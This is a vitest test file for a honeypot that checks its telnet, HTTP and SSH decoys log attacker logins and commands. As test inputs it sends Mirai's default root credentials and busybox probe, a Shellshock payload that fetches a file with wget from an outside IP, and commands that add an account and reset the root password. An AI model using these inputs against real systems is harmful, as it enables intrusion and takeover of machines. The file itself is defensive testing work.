import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { run, ssh } from './support/clients.ts';
import { startTestDecoy, type TestDecoy } from './support/decoy.ts';
import { talk } from './support/talk.ts';

let test: TestDecoy;
let ports: { telnet: number; http: number };
beforeAll(async () => {
  test = await startTestDecoy({ telnetPort: 0, httpPort: 0 });
  ports = { telnet: test.decoy.ports.telnet ?? 0, http: test.decoy.ports.http ?? 0 };
});
afterAll(() => test?.close());

it("Debian's telnet logs in, runs a command and leaves", async () => {
  const shown = await talk(
    'telnet',
    ['127.0.0.1', String(ports.telnet)],
    [
      [/login: $/, 'root'],
      [/Password: $/, 'xc3511'],
      [/# $/, '/bin/busybox MIRAI; uname -m'],
      [/x86_64[\s\S]*# $/, 'exit'],
    ],
  );
  expect(shown).toContain('MIRAI: applet not found');
  expect(test.events()).toContainEqual(
    expect.objectContaining({
      eventid: 'cowrie.login.success',
      protocol: 'telnet',
      username: 'root',
      password: 'xc3511',
    }),
  );
});

it('a recording shows what the visitor saw, in the form of asciicast v2', async () => {
  const closed = () => test.events().find(({ eventid }) => eventid === 'cowrie.log.closed');
  await expect.poll(closed).toBeDefined();
  const [head = '', ...lines] = readFileSync(join(test.folder, String(closed()?.['ttylog'])), 'utf8')
    .trimEnd()
    .split('\n');
  expect(JSON.parse(head)).toMatchObject({ version: 2, width: expect.any(Number), height: expect.any(Number) });
  const frames = lines.map((line) => JSON.parse(line));
  expect(frames.every(([at], index) => index === 0 || at >= frames[index - 1][0])).toBe(true);
  expect(frames.flatMap(([, kind, text]) => (kind === 'o' ? [text] : [])).join('')).toContain('applet not found');
});

it('curl sees a login, and what it posts is logged as one', async () => {
  const url = `http://127.0.0.1:${ports.http}`;
  expect((await run('curl', ['-s', '-i', `${url}/`])).stdout).toMatch(/Server: nginx[\s\S]*<form method="post"/);
  await run('curl', ['-s', '-d', 'username=admin&password=s3cret', `${url}/login`]);
  expect(test.events()).toContainEqual(
    expect.objectContaining({
      eventid: 'cowrie.login.failed',
      protocol: 'http',
      username: 'admin',
      password: 's3cret',
    }),
  );
  expect((await run('curl', ['-s', '-o', '/dev/null', '-w', '%{http_code}', `${url}/nothing`])).stdout).toBe('404');
});

it('an exploit is told with the command that it carries, and nothing is run', async () => {
  const url = `http://127.0.0.1:${ports.http}/cgi-bin/status`;
  await run('curl', ['-s', '-A', '() { :; }; /bin/bash -c "wget http://203.0.113.5/x"', url]);
  expect(test.events()).toContainEqual(
    expect.objectContaining({
      eventid: 'cerberus.http.exploit',
      cve: 'CVE-2014-6271',
      attempted_command: expect.stringContaining('wget'),
    }),
  );
});

it('plink, the client of PuTTY, logs in and gets output', async () => {
  const done = await run('plink', [
    '-batch',
    '-hostkey',
    await hostKey(),
    '-P',
    String(test.port),
    '-pw',
    'hunter2',
    'root@127.0.0.1',
    'echo from plink',
  ]);
  expect(done).toMatchObject({ stdout: 'from plink\n', status: 0 });
});

async function hostKey(): Promise<string> {
  const { stderr } = await run('plink', ['-batch', '-P', String(test.port), '-pw', 'x', 'root@127.0.0.1', 'true']);
  return /SHA256:[\w+/]{43}/.exec(stderr)?.[0] ?? '';
}

it('a password that was changed, and an account that was made, hold at the next login over Telnet as over SSH', async () => {
  const arrive = (user: string, password: string, answer: RegExp, then: string) =>
    talk(
      'telnet',
      ['127.0.0.1', String(ports.telnet)],
      [
        [/login: $/, user],
        [/Password: $/, password],
        [answer, then],
      ],
    );
  await arrive('root', 'xc3511', /# $/, 'useradd -m eve; printf "root:ours-now\\neve:hers\\n" | chpasswd; exit');
  expect(await arrive('root', 'xc3511', /login: $/, '\x04')).toContain('Login incorrect');
  expect(await arrive('eve', 'hers', /eve@\S+:~\$ $/, 'id -un; exit')).toMatch(/\r\neve\r\n/);
  expect((await ssh(test.port, 'pwd', { user: 'eve', password: 'hers' })).stdout).toBe('/home/eve\n');
  expect(await arrive('root', 'ours-now', /# $/, 'printf "xc3511\\nxc3511\\n" | passwd; exit')).toContain('updated');
});
